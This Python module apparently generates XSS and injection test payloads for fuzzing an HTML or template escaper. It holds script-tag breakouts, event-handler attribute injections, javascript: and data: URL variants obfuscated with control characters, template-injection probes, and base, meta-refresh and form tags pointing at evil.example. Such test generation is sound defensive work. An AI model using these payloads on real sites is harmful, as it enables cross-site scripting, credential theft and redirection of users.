"""Payloads: texts that try to be more than text, made here, and lists of others where there are any.

`HYPER_PAYLOADS` may name a JSON file with a list of texts; none is part of this project.
`HYPER_PAYLOADS_EVERY` takes each so many of all; 1 takes all of them.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

RUN = "hit()"
"""What all of them would call."""
EVERY = int(os.environ.get("HYPER_PAYLOADS_EVERY", "12"))


def breakouts() -> list[str]:
    """Ends of every context, spelled in the ways that parsers take, each before something that runs."""
    runs = [f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>"]
    tags = "style script textarea title noscript iframe xmp noembed noframes plaintext select template svg math".split()
    ends = [">", " >", "/>", "\n>", "\t/x>", "\f>"]
    texts = [f"</{name}{end}{runs[0]}" for tag in tags for name in (tag, tag.upper(), tag.capitalize()) for end in ends]
    for run in runs:
        texts += [f"{end}{run}" for end in ("-->", "--!>", "<!-->", "]]>", "'>", '">', "`>", ">", "</", "<!", "<?")]
    for quote in ('"', "'", "`", "", " ", "\t", "\n", "\f", "\r", "/"):
        for name in ("onfocus", "ONCLICK", "onerror", "onmouseover", "autofocus onfocus"):
            texts.append(f"x{quote} {name}={RUN} x={quote}")
            texts.append(f"x{quote}{name}={RUN}//")
    texts += ["{{7*7}}", "{% if 1 %}", "{x}", "${hit()}", "<%= hit() %>", "t'{hit()}'", "&lt;img onerror=hit()&gt;"]
    texts += ["x'), delete('y", '"', "'", "&", "<", ">", "</b>", "value", "&amp;", "&#60;img&#62;", "\\", "\\u003cimg"]
    texts += [
        "__proto__",
        "constructor",
        "\u2028\u2029",
        "\ufeff<b>",
        "\u202e<b>",
        "<\u0000script>",
        "a\r\nb",
        "\ud83d\ude00",
    ]
    texts += ["<b" + "\u00a0" * 3 + f"onclick={RUN}>", f"<a href=javascript:{RUN}>x</a>", "<base href=//evil.example>"]
    texts += ["<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=id>"]
    return texts


def addresses() -> list[str]:
    """What would run where an address stands."""
    schemes = ["javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload="]
    before = ["", " ", "\t", "\n", "\x00", "\x01", "\x1f \x1f", "\r\n\t "]
    texts = [f"{b}{s}{RUN}" for s in schemes for b in before]
    for mark in ("\t", "\n", "\r", "\r\n"):
        texts += [f"java{mark}script:{RUN}", f"javascript{mark}:{RUN}", f"j{mark}a{mark}v{mark}ascript:{RUN}"]
    return [*texts, f"javascript://%0a{RUN}", f"javascript:/*--></title>*/{RUN}", f"feed:javascript:{RUN}", "blob:x"]


def others() -> list[str]:
    """A public list, where somebody has one."""
    path = os.environ.get("HYPER_PAYLOADS")
    return json.loads(Path(path).read_text("utf-8")) if path else []


def chosen(texts: list[str]) -> list[str]:
    """Each `EVERY`th."""
    return texts[::EVERY]
